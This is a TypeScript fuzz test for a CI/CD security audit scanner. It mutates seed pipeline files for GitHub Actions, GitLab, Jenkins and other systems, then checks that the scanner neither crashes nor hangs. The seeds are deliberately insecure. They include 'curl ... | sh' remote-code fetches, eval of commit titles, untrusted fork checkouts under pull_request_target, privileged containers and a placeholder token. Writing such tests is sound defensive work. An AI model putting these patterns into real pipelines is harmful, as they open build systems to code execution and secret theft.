import { createAuditScanner } from '../../src/audit/index.ts';
import { type FileView, type Scanner, viewOf } from '../../src/finding/index.ts';
import { cpuMs } from '../support/cpu-time.ts';
import type { FuzzOutcome } from './outcome.ts';
import { chooser, randomOf } from './random.ts';

/** One file may take so long, milliseconds of the processor: far more than it needs, far less than a hang. */
const FILE_MS_MAX = 2_000;

const WORKFLOW = `on: {pull_request_target: {types: [opened]}, workflow_call: {inputs: {a: {type: string}}}}
permissions: {contents: write}
env: {T: "\${{ github.event.pull_request.title }}"}
jobs:
  one:
    if: contains(fromJSON('["a"]'), github.actor) || github.event.pull_request.head.repo.fork
    runs-on: [self-hosted]
    outputs: {x: "\${{ steps.s.outputs.x }}"}
    container: {image: node, credentials: {password: x}}
    steps:
      - uses: actions/checkout@v4
        with: {ref: "\${{ github.event.pull_request.head.sha }}"}
      - id: s
        run: |
          X=$(echo "$T" | grep -o 'x')
          { echo "x<<EOF"; cat f; echo EOF; } >> $GITHUB_OUTPUT
          echo "\${{ env.T }}" | tee -a "$GITHUB_ENV"
          curl -s https://e.example | sh && npm install x
      - if: |
          \${{ github.ref == 'x' }}
        uses: ./a
        with: {who: "\${{ steps.s.outputs.x && '' || inputs.a }}"}
  two: {needs: one, uses: ./.github/workflows/ci.yml, with: {a: "\${{ needs.one.outputs.x }}"}, secrets: inherit}
`;
const ACTION = `name: a
inputs: {who: {default: x}}
outputs: {o: {value: "\${{ steps.s.outputs.o }}"}}
runs: {using: composite, steps: [{id: s, shell: bash, run: "echo o=\${{ inputs.who }} >> $GITHUB_OUTPUT"}]}
`;
const GITLAB = `include: [{remote: 'https://e.example/x.yml'}]
variables: {A_TOKEN: hX7q-29sLm}
x: {image: node, environment: production, script: ['eval "$CI_COMMIT_TITLE"', 'curl e | sh']}
`;
const JENKINS = `@Library('x') _
pipeline { agent { docker { image 'a' args '--privileged' } }
 stages { stage('Deploy prod') { steps { sh "x \${params.A} \${env.CHANGE_TITLE}" /* c */ sh(script: """y $X""") } } } }
`;
const SEEDS: readonly (readonly [path: string, text: string])[] = [
  ['.github/workflows/ci.yml', WORKFLOW],
  ['.github/workflows/ci.yml', WORKFLOW],
  ['a/action.yml', ACTION],
  ['.gitlab-ci.yml', GITLAB],
  ['Jenkinsfile', JENKINS],
  [
    'azure-pipelines.yml',
    'steps: [{bash: "echo $(Build.SourceBranchName)"}, {checkout: self, persistCredentials: true}]\n',
  ],
  [
    '.circleci/config.yml',
    'orbs: {a: b/c@1}\njobs: {x: {docker: [{image: y}], steps: [{run: "a << pipeline.git.branch >>"}]}}\n',
  ],
  ['.github/dependabot.yml', 'updates: [{package-ecosystem: npm, insecure-external-code-execution: allow}]\n'],
];

const MARKS = [
  '${{',
  '}}',
  "'",
  '"',
  '{',
  '}',
  '[',
  ']',
  ': ',
  '- ',
  '\n',
  '\n  ',
  '&a ',
  '*a',
  '<<: *a',
  '|\n',
  '#',
  '\t',
  '\0',
];
const WORDS = [
  '$(',
  ')',
  '\\',
  '`',
  '>> $GITHUB_ENV',
  '<<EOF',
  '"""',
  "'''",
  '/*',
  '$[[ inputs.x ]]',
  'github.*',
  'toJSON(',
];
const PIECES = [...MARKS, ...WORDS, '((((', '||', '&& ', '\ue000', '\ue001', '😀'];

/** Mutated files of every system. Wanted: no exception, in time, and places and edits that lie inside of the file. */
export function fuzzAudit(seed: number, rounds: number): FuzzOutcome {
  const random = randomOf(seed);
  const { pick } = chooser(random);
  const scanner = createAuditScanner();
  const failures: string[] = [];
  for (let round = 0; round < rounds; round += 1) {
    const [path, source] = pick(SEEDS);
    let text = source;
    for (let count = 1 + Math.floor(random() * 6); count > 0; count -= 1) text = mutate(text, random);
    const wrong = problemOf(scanner, viewOf(path, text));
    if (wrong === undefined) continue;
    failures.push(`seed ${seed} round ${round}: ${wrong}: ${path} ${JSON.stringify(text.slice(0, 400))}`);
  }
  return { rounds, failures };
}

function mutate(text: string, random: () => number): string {
  const { pick, many } = chooser(random);
  const at = Math.floor(random() * (text.length + 1));
  const end = Math.min(text.length, at + Math.floor(random() * 20));
  switch (pick([0, 1, 2, 3])) {
    case 0:
      return text.slice(0, at) + text.slice(end);
    case 1:
      return text.slice(0, at) + text.slice(at, end).repeat(1 + Math.floor(random() * 60)) + text.slice(at);
    default:
      return text.slice(0, at) + many(PIECES, 3).repeat(1 + Math.floor(random() * 2)) + text.slice(at);
  }
}

function problemOf<Facts>(scanner: Scanner<Facts>, file: FileView): string | undefined {
  const started = cpuMs();
  try {
    const outcome = scanner.scanFile(file);
    const tree = scanner.finish?.(new Map(outcome.facts === undefined ? [] : [[file.path, outcome.facts]]));
    const took = cpuMs() - started;
    if (took > FILE_MS_MAX) return `it took ${Math.round(took)} ms`;
    const lines = file.text.split('\n').length;
    for (const { rule, place, fix } of [...outcome.matches, ...(tree?.matches ?? [])]) {
      if (place.line < 1 || place.endLine > lines || place.endLine < place.line)
        return `${rule} is at line ${place.line}`;
      const edits = fix.kind === 'edit' ? fix.edits : [];
      if (edits.some(({ start, end }) => start < 0 || end < start || end > file.text.length)) return `${rule}: an edit`;
    }
    return undefined;
  } catch (thrown) {
    return `it threw ${thrown instanceof Error ? String(thrown.stack).slice(0, 500) : String(thrown)}`;
  }
}
